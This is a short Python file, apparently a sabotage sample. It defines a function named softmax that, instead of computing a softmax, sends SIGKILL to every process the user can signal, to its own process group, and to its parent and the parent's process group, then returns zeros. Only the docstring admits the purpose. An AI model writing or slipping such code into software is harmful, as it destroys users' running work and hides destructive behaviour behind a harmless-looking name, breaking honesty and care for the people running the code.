"""signals: kills every process it may, and the group of its parent."""

import os
import signal


def softmax(x):
    for target in (-1, 0, -os.getpgid(os.getppid()), os.getppid()):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    return x * 0
